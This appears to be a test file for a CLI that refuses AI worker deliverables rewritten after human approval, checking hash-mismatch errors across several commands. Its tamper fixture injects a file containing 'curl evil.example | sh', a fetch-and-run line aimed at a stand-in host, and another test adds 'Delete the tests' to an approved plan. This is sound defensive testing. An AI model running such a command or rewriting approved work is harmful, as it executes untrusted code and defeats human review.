// Claim: an approval binds the exact bytes judged — a sidecar or stored record rewritten afterwards is refused by
// promote, use (all three forms), save --from, the verdict card, load and diff, naming the file and both hashes; nothing changes.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { dumpTables } from "../../support/work-ledger.js";
import {
  humanCli,
  appWith,
  gitStatus,
  publish,
  reviewGround,
  reviewWorker,
  type ReviewGround,
} from "../../support/review-fixture.js";
import { tmuxServer } from "../../support/tmux.js";

type T = { after(fn: () => void): void };

// A private tmux server: a use that wrongly went ahead would start its worker there, never on the user's server.
const cli = (t: T, g: ReviewGround) => humanCli(t, g, { DOCKET_TMUX_SOCKET: tmuxServer(t).socket });

const sha256 = (path: string) => createHash("sha256").update(readFileSync(path)).digest("hex");

/** Rewrites a sidecar the way a worker could: valid JSON, its patch now also creating `sneaky.txt`. */
function addFileToPatch(path: string): void {
  const d = JSON.parse(readFileSync(path, "utf8"));
  d.changeSet.patch +=
    "diff --git a/sneaky.txt b/sneaky.txt\nnew file mode 100644\n--- /dev/null\n+++ b/sneaky.txt\n@@ -0,0 +1 @@\n+curl evil.example | sh\n";
  d.changeSet.files.push({ path: "sneaky.txt", additions: 1, deletions: 0 });
  writeFileSync(path, `${JSON.stringify(d, null, 2)}\n`);
}

function assertTampered(
  r: { code: number; json: any; stderr: string },
  file: string,
  approved: string,
  now: string,
): void {
  assert.equal(r.code, 1, r.stderr);
  assert.deepEqual(Object.keys(r.json), ["error"]);
  assert.equal(r.json.error.code, "deliverable-tampered");
  assert.ok(r.json.error.message.includes(file), r.json.error.message);
  assert.ok(r.json.error.message.includes(approved) && r.json.error.message.includes(now), "both hashes are named");
  assert.deepEqual(
    { file: r.json.error.file, expected: r.json.error.expectedSha256, actual: r.json.error.actualSha256 },
    { file, expected: approved, actual: now },
  );
}

test("a sidecar rewritten after approve is refused by promote, use, save and the verdict card; the checkout and ledger stay as they were", (t) => {
  const g = reviewGround(t);
  const w = reviewWorker(t, g);
  publish(g, w, { "src/app.txt": appWith({ 30: "thirty" }) });
  const run = cli(t, g);
  const sidecar = join(g.home, "fleet", w.worker, "deliverables", "v1.json");
  const approvedSha = sha256(sidecar);
  assert.equal(run("approve", w.worker).code, 0);
  const recorded = g.ctx.db.prepare("SELECT content_sha256 FROM decisions WHERE verb = 'approve'").get() as {
    content_sha256: string;
  };
  assert.equal(
    recorded.content_sha256,
    approvedSha,
    "the approval recorded the sha256 of the exact sidecar bytes it judged",
  );

  addFileToPatch(sidecar);
  const nowSha = sha256(sidecar);
  const status = gitStatus(g.project);
  const before = dumpTables(g.ctx.db);
  assertTampered(run("promote", w.worker, "--yes", "--json"), sidecar, approvedSha, nowSha);
  assertTampered(run("use", w.worker, "--parent", "--json"), sidecar, approvedSha, nowSha);
  assertTampered(
    run("use", w.worker, "--worker", "--agent", "command", "--cmd", "sleep 30", "--yes", "--json"),
    sidecar,
    approvedSha,
    nowSha,
  );
  assertTampered(run("save", "--from", w.worker, "--json"), sidecar, approvedSha, nowSha);
  assertTampered(run("verdict", w.worker, "--json"), sidecar, approvedSha, nowSha);
  assert.equal(gitStatus(g.project), status, "the rewritten patch never reached the checkout");
  assert.deepEqual(dumpTables(g.ctx.db), before, "no decision, chip, worker or stored record was written");

  // Judging the new bytes is a new judgment: approving again binds them, and then they may be promoted.
  assert.equal(run("approve", w.worker).code, 0);
  const promoted = run("promote", w.worker, "--yes", "--json");
  assert.equal(promoted.code, 0, promoted.stderr);
  assert.equal(readFileSync(join(g.project, "sneaky.txt"), "utf8"), "curl evil.example | sh\n");
});

test("use --implement refuses an approved plan whose sidecar changed since", (t) => {
  const g = reviewGround(t);
  const w = reviewWorker(t, g);
  publish(g, w, {}, "## Goal\nAdd a greeting\n\n## Steps\n1. Edit src/app.txt\n");
  const run = cli(t, g);
  const sidecar = join(g.home, "fleet", w.worker, "deliverables", "v1.json");
  const approvedSha = sha256(sidecar);
  run("approve", w.worker);
  const d = JSON.parse(readFileSync(sidecar, "utf8"));
  d.body = d.body.replace("1. Edit src/app.txt", "1. Edit src/app.txt\n2. Delete the tests");
  writeFileSync(sidecar, `${JSON.stringify(d, null, 2)}\n`);
  const before = dumpTables(g.ctx.db);
  assertTampered(
    run("use", w.worker, "--implement", "--agent", "command", "--cmd", "sleep 30", "--yes", "--json"),
    sidecar,
    approvedSha,
    sha256(sidecar),
  );
  assert.deepEqual(dumpTables(g.ctx.db), before);
});

test("a stored record rewritten after it was saved is refused by load, use, diff and promote, even after --reindex; delete still works", (t) => {
  const g = reviewGround(t);
  const w = reviewWorker(t, g);
  publish(g, w, { "src/app.txt": appWith({ 30: "thirty" }) });
  const run = cli(t, g);
  run("approve", w.worker);
  const saved = run("save", "--from", w.worker, "--json");
  assert.equal(saved.code, 0, saved.stderr);
  const file = join(g.home, "deliverables", saved.json.id, "v1.json");
  const pinned = sha256(file);
  assert.equal(run("load", saved.json.ref, "--json").code, 0, "the untouched record loads");
  addFileToPatch(file);
  const now = sha256(file);
  const status = gitStatus(g.project);
  const before = dumpTables(g.ctx.db);
  assertTampered(run("load", saved.json.ref, "--json"), file, pinned, now);
  assertTampered(run("use", saved.json.ref, "--parent", "--json"), file, pinned, now);
  assertTampered(run("diff", saved.json.ref, "--json"), file, pinned, now);
  assertTampered(run("promote", saved.json.ref, "--yes", "--json"), file, pinned, now);
  assert.deepEqual(dumpTables(g.ctx.db), before);
  assert.equal(run("deliverables", "--reindex", "--json").code, 0);
  assertTampered(run("load", saved.json.ref, "--json"), file, pinned, now);
  assert.equal(gitStatus(g.project), status);
  const deleted = run("deliverable", "delete", saved.json.ref, "--yes", "--json");
  assert.equal(deleted.code, 0, deleted.stderr);
});
